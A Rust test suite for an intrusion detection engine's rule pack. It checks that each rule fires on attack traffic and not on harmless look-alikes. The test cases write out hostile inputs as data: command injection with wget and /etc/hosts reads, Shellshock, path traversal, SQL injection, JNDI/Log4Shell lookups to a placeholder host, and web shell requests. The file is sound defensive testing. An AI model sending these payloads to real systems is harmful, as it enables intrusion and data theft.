//! The rules that come with the program: each fires on what it is about, and not on what only
//! looks like it.

use flowtrack_engine::{Config, Engine, Output, Seed};
use flowtrack_event::{Alert, Event, IfaceId, LinkType, RawPacket, Timestamp};
use flowtrack_rules::lang::Variables;
use flowtrack_rules::{Loaded, Loader, RuleSet, Shared, Signature};
use std::collections::BTreeSet;
use std::sync::Arc;

const PACK: &str = include_str!("../../../rules/flowtrack.rules");

/// What client and server say in turn; who speaks, and what.
type Talk = Vec<(bool, Vec<u8>)>;

/// A rule, the port of the server, what fires it, and what must not.
struct Case {
    sid: u32,
    port: u16,
    fires: Talk,
    not: Talk,
}

#[test]
fn every_rule_can_be_loaded_without_a_warning() {
    let loaded = load();
    let problems: Vec<_> = loaded.problems.iter().map(ToString::to_string).collect();
    assert_eq!(problems, Vec::<String>::new());
    assert_eq!(loaded.signatures.len() as u32, loaded.read);
}

#[test]
fn every_rule_fires_on_what_it_is_about_and_not_on_what_looks_like_it() {
    let cases = cases();
    let tested: BTreeSet<u32> = cases.iter().map(|case| case.sid).collect();
    let known: BTreeSet<u32> = load().signatures.iter().map(Signature::sid).collect();
    assert_eq!(tested, known, "every rule has a case");
    let set = Arc::new(RuleSet::compile(load().signatures));
    let mut wrong = Vec::new();
    for case in &cases {
        if !alerts(&set, case.port, &case.fires).contains(&case.sid) {
            wrong.push(format!("{} does not fire", case.sid));
        }
        if alerts(&set, case.port, &case.not).contains(&case.sid) {
            wrong.push(format!("{} fires on what is harmless", case.sid));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn alerts_carry_what_matched_where_that_is_asked_for() {
    let rules = "alert tcp any any -> any 80 (msg:\"s\"; content:\"/sec\"; content:\"ret\"; sid:1;)\n\
                 alert tcp-pkt any any -> any 80 (msg:\"p\"; content:\"secret\"; sid:2;)\n";
    let mut loader = Loader::new(Variables::default());
    loader.add("test.rules", rules);
    let set = Arc::new(RuleSet::compile(loader.finish().signatures));
    let text = "GET /secret HTTP/1.1\r\nHost: a.example\r\n\r\n";
    // In two segments, so that the stream is more than the packet that completes the match.
    let talk = vec![(true, text[..8].into()), (true, text[8..].into())];
    for asked in [false, true] {
        let mut config = Config::default();
        config.tell.alert_payload = asked;
        config.tell.alert_packet = asked;
        let alerts = events(&set, &config, 80, &talk);
        let of_stream = alerts.iter().find(|alert| alert.rule.sid == 1).unwrap();
        assert!(alerts.iter().all(|alert| alert.rule.sid != 2), "no packet holds it whole");
        assert_eq!(of_stream.payload.is_some(), asked);
        assert_eq!(of_stream.frame.is_some(), asked);
        if let (Some(payload), Some(frame)) = (&of_stream.payload, &of_stream.frame) {
            assert!(of_stream.from_stream);
            assert!(payload.starts_with(b"GET /secret HTTP"), "{payload:?}");
            assert_eq!(frame[12..14], [8, 0], "from the first header on");
        }
    }
    let whole = vec![(true, text.as_bytes().to_vec())];
    let mut config = Config::default();
    config.tell.alert_payload = true;
    let alerts = events(&set, &config, 80, &whole);
    let of_packet = alerts.iter().find(|alert| alert.rule.sid == 2).unwrap();
    assert_eq!(of_packet.payload.as_deref(), Some(text.as_bytes()));
    assert!(of_packet.frame.is_none() && !of_packet.from_stream);
}

fn cases() -> Vec<Case> {
    let head = |sid, fires: &str, not: &str| Case {
        sid,
        port: 80,
        fires: request(&format!("GET / HTTP/1.1\r\nHost: a.example\r\n{fires}\r\n\r\n")),
        not: request(&format!("GET / HTTP/1.1\r\nHost: a.example\r\n{not}\r\n\r\n")),
    };
    let address = |sid, fires: &str, not: &str| Case {
        sid,
        port: 80,
        fires: request(&format!("GET {fires} HTTP/1.1\r\nHost: a.example\r\n\r\n")),
        not: request(&format!("GET {not} HTTP/1.1\r\nHost: a.example\r\n\r\n")),
    };
    let body = |sid, fires: &str, not: &str| Case {
        sid,
        port: 80,
        fires: request(&post(fires)),
        not: request(&post(not)),
    };
    let plain = |sid, port, hello: &str, fires: &str, not: &str| Case {
        sid,
        port,
        fires: vec![(false, hello.into()), (true, fires.into())],
        not: vec![(false, hello.into()), (true, not.into())],
    };
    let page = |text: &str| -> Talk {
        let length = text.len();
        let answer = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {length}\r\n\r\n{text}"
        );
        vec![
            (true, b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n".to_vec()),
            (false, answer.into_bytes()),
        ]
    };
    vec![
        head(8_800_001, "Referer: http://x/CMD.exe?/c+dir", "Referer: http://x/cmd/exe"),
        address(8_800_002, "/scripts/cmd.exe?/c+dir", "/scripts/cmdexe"),
        address(
            8_800_003,
            "/x?c=powershell.exe%20-nop%20-enc%20ZQBjAGgA",
            "/docs/powershell-execution-policy",
        ),
        address(8_800_004, "/ping?host=1.1.1.1;cat%20/etc/hosts", "/list?sort=name;category=cats"),
        body(8_800_005, "host=1.1.1.1|wget http://x/y", "a=1&cat=red+shoes&id=5"),
        head(
            8_800_006,
            "User-Agent: () { :; }; /bin/ping -c1 192.0.2.1",
            "User-Agent: f() {return 1}",
        ),
        address(8_800_010, "/files?name=../../../secret", "/files/../other/page"),
        address(8_800_011, "/%2e%2e%2f%2e%2e%2fsecret", "/name%2ewith%2edots"),
        address(8_800_012, "/show?page=/etc/passwd", "/etc/password-policy.html"),
        address(
            8_800_020,
            "/item?id=1%20UNION%20ALL%20SELECT%20name%20FROM%20users",
            "/news/trade-union-members-select-leader",
        ),
        body(8_800_021, "id=1+union+select+1,2", "text=the+union+will+select+a+leader"),
        address(8_800_022, "/item?id=1'%20or%20'1'='1", "/item?name=o'reilly&or=1=2"),
        head(8_800_030, "X-Api: ${jndi:ldap://192.0.2.9/a}", "X-Api: {jndi: is a name of Java}"),
        address(8_800_031, "/?x=${jndi:dns://a.example}", "/?x=jndi:dns"),
        body(8_800_032, "a=${JNDI:rmi://192.0.2.9/a}", "a=$jndi:rmi"),
        head(
            8_800_033,
            "User-Agent: ${${lower:j}${lower:n}di:ldap://192.0.2.9/a}",
            "User-Agent: ${name} and ${other}",
        ),
        address(8_800_040, "/up/x.php?a=1&cmd=whoami", "/index.php?command_list=1"),
        address(8_800_041, "/images/c99.php", "/images/c99-standard.php"),
        Case {
            sid: 8_800_042,
            port: 80,
            fires: page("uid=33(www-data) gid=33(www-data) groups=33(www-data)"),
            not: page("<a href=\"?uid=33&amp;gid=12\">x</a>"),
        },
        head(8_800_050, "Authorization: Basic dXNlcjpwYXNz", "Authorization: Bearer abc"),
        body(8_800_051, "user=a&password=secret", "user=a&passengers=2"),
        plain(8_800_052, 21, "220 hello\r\n", "PASS secret\r\n", "PASS anonymous\r\n"),
        plain(8_800_053, 110, "+OK hello\r\n", "PASS secret\r\n", "CAPA\r\n"),
        plain(8_800_054, 143, "* OK hello\r\n", "a1 LOGIN me secret\r\n", "a1 CAPABILITY\r\n"),
        plain(8_800_055, 25, "220 hello\r\n", "AUTH LOGIN\r\n", "EHLO a.example\r\n"),
        Case { sid: 8_800_060, port: 443, fires: tls(0x0301, OTHERS), not: tls(0x0303, OTHERS) },
        Case { sid: 8_800_061, port: 443, fires: tls(0x0302, OTHERS), not: tls(0x0303, OTHERS) },
        Case { sid: 8_800_062, port: 443, fires: tls(0x0303, EXPIRED), not: tls(0x0303, OWN) },
        Case { sid: 8_800_063, port: 443, fires: tls(0x0303, OWN), not: tls(0x0303, EXPIRED) },
    ]
}

fn load() -> Loaded {
    let mut loader = Loader::new(Variables::default());
    loader.add("flowtrack.rules", PACK);
    loader.finish()
}

fn request(text: &str) -> Talk {
    vec![(true, text.into()), (false, b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok".to_vec())]
}

fn post(body: &str) -> String {
    format!(
        "POST /form HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/x-www-form-urlencoded\
         \r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
}

/// When the traffic is: 2026-12-01.
const NOW: i64 = 1_796_083_200;

/// The numbers of the rules that fire on a connection.
fn alerts(set: &Arc<RuleSet>, port: u16, talk: &Talk) -> BTreeSet<u32> {
    events(set, &Config::default(), port, talk).iter().map(|alert| alert.rule.sid).collect()
}

/// The alerts of a connection.
fn events(set: &Arc<RuleSet>, config: &Config, port: u16, talk: &Talk) -> Vec<Alert> {
    let mut engine = Engine::new(config, 0, Seed([1, 2, 3, 4]));
    engine.set_rules(Arc::clone(set), Arc::new(Shared::default()));
    let mut out = Output::default();
    for (number, frame) in (1u64..).zip(frames(port, talk)) {
        let packet = RawPacket {
            ts: Timestamp::from_secs(NOW + number as i64),
            iface: IfaceId(0),
            link: LinkType::ETHERNET,
            number,
            wire_len: frame.len() as u32,
            vlan_tci: None,
            data: &frame,
        };
        engine.process(&[packet], &mut out);
    }
    engine.finish(&mut out);
    let alerts = out.events.into_iter().filter_map(|event| match event {
        Event::Alert(alert) => Some(*alert),
        _ => None,
    });
    alerts.collect()
}

/// A TCP connection from its handshake to its end, every byte acknowledged.
fn frames(port: u16, talk: &Talk) -> Vec<Vec<u8>> {
    const FIN: u8 = 1;
    const SYN: u8 = 2;
    const PSH: u8 = 8;
    const ACK: u8 = 16;
    let mut next = [1_000u32, 9_000];
    let mut frames = vec![
        segment(port, true, next[0], 0, SYN, b""),
        segment(port, false, next[1], next[0] + 1, SYN | ACK, b""),
    ];
    next = next.map(|seq| seq + 1);
    frames.push(segment(port, true, next[0], next[1], ACK, b""));
    for (from_client, bytes) in talk {
        let (own, other) = if *from_client { (0, 1) } else { (1, 0) };
        for part in bytes.chunks(1400) {
            frames.push(segment(port, *from_client, next[own], next[other], PSH | ACK, part));
            next[own] += part.len() as u32;
            frames.push(segment(port, !*from_client, next[other], next[own], ACK, b""));
        }
    }
    frames.push(segment(port, true, next[0], next[1], FIN | ACK, b""));
    frames.push(segment(port, false, next[1], next[0] + 1, FIN | ACK, b""));
    frames.push(segment(port, true, next[0] + 1, next[1] + 1, ACK, b""));
    frames
}

fn segment(port: u16, from_client: bool, seq: u32, ack: u32, flags: u8, data: &[u8]) -> Vec<u8> {
    let (client, server) = ([10, 0, 0, 1], [192, 0, 2, 80]);
    let (src, dst) = if from_client { (client, server) } else { (server, client) };
    let (src_port, dst_port) = if from_client { (40_000, port) } else { (port, 40_000) };
    let mut frame = vec![2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0, 0x45, 0];
    frame.extend((40 + data.len() as u16).to_be_bytes());
    frame.extend([0, 0, 0x40, 0, 64, 6, 0, 0]);
    frame.extend(src);
    frame.extend(dst);
    frame.extend(u16::to_be_bytes(src_port));
    frame.extend(u16::to_be_bytes(dst_port));
    frame.extend(seq.to_be_bytes());
    frame.extend(ack.to_be_bytes());
    frame.extend([0x50, flags, 0xff, 0xff, 0, 0, 0, 0]);
    frame.extend(data);
    frame
}

/// The beginning of a TLS session: both hellos, and the certificate of the server.
fn tls(version: u16, certificate: &str) -> Talk {
    let der: Vec<u8> = (0..certificate.len() / 2)
        .map(|at| u8::from_str_radix(&certificate[at * 2..at * 2 + 2], 16).unwrap())
        .collect();
    let mut hello = version.to_be_bytes().to_vec();
    hello.extend([7; 32]);
    let mut client = hello.clone();
    client.extend([0, 0, 4, 0xc0, 0x2f, 0x00, 0x2f, 1, 0]);
    let mut server = hello;
    server.extend([0, 0x00, 0x2f, 0]);
    let mut chain = length24(der.len() + 3);
    chain.extend(length24(der.len()));
    chain.extend(der);
    let mut answer = record(version, &handshake(2, &server));
    answer.extend(record(version, &handshake(11, &chain)));
    answer.extend(record(version, &handshake(14, &[])));
    vec![(true, record(0x0301, &handshake(1, &client))), (false, answer)]
}

fn record(version: u16, bytes: &[u8]) -> Vec<u8> {
    let mut record = vec![22];
    record.extend(version.to_be_bytes());
    record.extend((bytes.len() as u16).to_be_bytes());
    record.extend(bytes);
    record
}

fn handshake(kind: u8, bytes: &[u8]) -> Vec<u8> {
    let mut message = vec![kind];
    message.extend(length24(bytes.len()));
    message.extend(bytes);
    message
}

fn length24(length: usize) -> Vec<u8> {
    (length as u32).to_be_bytes()[1..].to_vec()
}

/// A certificate that its owner signed, valid until 2036.
const OWN: &str = "\
    3082014a3081fda00302010202145713081d8a206a4d3903fabe2cf56216660f0667300506032b6570301b311930\
    1706035504030c1073656c662e6578616d706c652e6f7267301e170d3236313132313036333935365a170d333631\
    3131383036333935365a301b3119301706035504030c1073656c662e6578616d706c652e6f7267302a300506032b\
    657003210012209d3ad73a59e1826ee3d6fa50b1e80ed784f5097007a61c4b8de9e576ad72a3533051301d060355\
    1d0e0416041420919cdbcb2ccac1ef5a4272eb76db305f6b830a301f0603551d2304183016801420919cdbcb2cca\
    c1ef5a4272eb76db305f6b830a300f0603551d130101ff040530030101ff300506032b65700341001b9882f336a0\
    8f3bc3867ca74347e3d463674f09a166e6aed41e6d85f4a129acaea593473f548dc45eb19fb284fc0ab920de336b\
    dbdacba1e90ada704afbdc0a";

/// A certificate that another signed, valid until 2024.
const EXPIRED: &str = "\
    308201cf30820175a0030201020204009f6b01300a06082a8648ce3d040302303c310b3009060355040613024445\
    31163014060355040a0c0d426569737069656c20476d62483115301306035504030c0c4578616d706c6520526f6f\
    74301e170d3233313030313030303030305a170d3234303130313132333035395a305d310b300906035504061302\
    4445310e300c06035504080c054bc3b66c6e31163014060355040a0c0d426569737069656c20476d6248310c300a\
    060355040b0c035765623118301606035504030c0f7777772e6578616d706c652e6f72673059301306072a8648ce\
    3d020106082a8648ce3d030107034200047f2d71699180ba7bae86654d4357b43ba8bc82cdd41642c420bfd71ac5\
    e4eaffd8b76278d676c9d3463256e3df68613e15bca16f7b01ef2be7e22897a032aed6a344304230400603551d11\
    04393037820f7777772e6578616d706c652e6f7267820d2a2e6578616d706c652e6e65748704c6336402810f7765\
    62406578616d706c652e6f7267300a06082a8648ce3d040302034800304502202671321281ae714ae5557908063e\
    84a55d92957845ae547a6863904c1d6a78e8022100ba80ac8fee375924136d9f90cc57eb5e58c8f201c0bf2a0d8f\
    a05335899e8547";

/// The same; where only the version of TLS counts.
const OTHERS: &str = EXPIRED;
